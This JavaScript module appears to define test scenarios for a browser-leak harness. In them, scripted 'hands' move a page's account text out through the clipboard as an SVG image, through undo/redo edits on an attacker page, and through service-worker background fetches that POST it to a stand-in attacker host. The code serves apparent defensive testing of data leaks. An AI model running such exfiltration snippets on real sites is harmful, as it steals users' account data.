// More of what a browser carries: drawings on the clipboard, edits that are done again, what is fetched in the background.
import { urlOf } from '../sites/world.mjs';
import { grant } from './exchanges.mjs';

export const rarerExchanges = [
  {
    id: 'clipboard-of-a-drawing',
    group: 6,
    async does({ hands }) {
      await grant(hands);
      await hands.run(`(async () => {
        const drawn = '<svg xmlns="http://www.w3.org/2000/svg"><text>' + document.querySelector('#account').textContent + '</text></svg>';
        await navigator.clipboard.write([new ClipboardItem({ 'image/svg+xml': new Blob([drawn], { type: 'image/svg+xml' }) })]);
      })().catch(() => {})`);
      await hands.goto(urlOf('attacker', '/reading-any'));
      await hands.click({ button: 'Go on' });
      await hands.wait(600);
    },
  },
  {
    id: 'composed-then-undone',
    group: 1,
    async does({ hands, filled }) {
      await hands.goto(urlOf('attacker', '/edited'));
      await filled.compose({ label: 'Notes' }, '{account number}').catch(() => undefined);
      for (const key of ['Control+z', 'Control+Shift+z', 'Control+y', 'Control+z']) await hands.press(key);
      await hands.wait(600);
    },
  },
  {
    id: 'fetched-in-the-background',
    group: 6,
    async does({ hands }) {
      await hands.run(`(async () => {
        const kept = await navigator.serviceWorker.register('/sw.js');
        await navigator.serviceWorker.ready;
        const body = document.querySelector('#account').textContent;
        for (const id of ['rose', 'lily', 'aster']) await kept.backgroundFetch.fetch(id, [new Request('${urlOf('attacker', '/c')}', { method: 'POST', body })]);
      })().catch(() => {})`);
      await hands.wait(3_000);
    },
  },
];
